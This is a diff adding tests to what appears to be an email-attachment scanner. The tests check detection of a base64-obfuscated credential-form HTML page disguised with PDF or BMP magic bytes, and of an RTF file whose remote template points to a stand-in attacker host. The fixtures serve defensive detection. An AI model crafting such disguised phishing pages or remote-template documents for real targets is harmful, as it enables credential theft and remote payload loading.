@@ -314,3 +314,15 @@ def test_an_ordinary_mail_imports_nothing() -> None:
     code = f"import sys, bridge.service.analysis.pipeline; print({heavy} & set(sys.modules))"
     ran = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
     assert ran.stdout.strip() == "set()"
+
+
+@pytest.mark.parametrize("mark", [b"<!-- %PDF-1.7 -->", b"BM" + bytes(12)])
+def test_the_mark_of_another_format_hid_a_page(mark: bytes) -> None:
+    """Programs go by the name of a file, so every reader looks at it."""
+    page = b'<html><script>document.write(atob("' + base64.b64encode(FORM * 3) + b'"))</script></html>'
+    assert {"attachment:builds-page", "attachment:credential-form"} <= tags(mark + page, "a.html")
+
+
+def test_the_mark_of_a_pdf_hid_an_rtf_object() -> None:
+    template = b"{\\rtf1 %PDF-1.7 {\\*\\template http://evil.example/x.dotm}}"
+    assert "office:remote-template" in tags(template, "a.rtf")
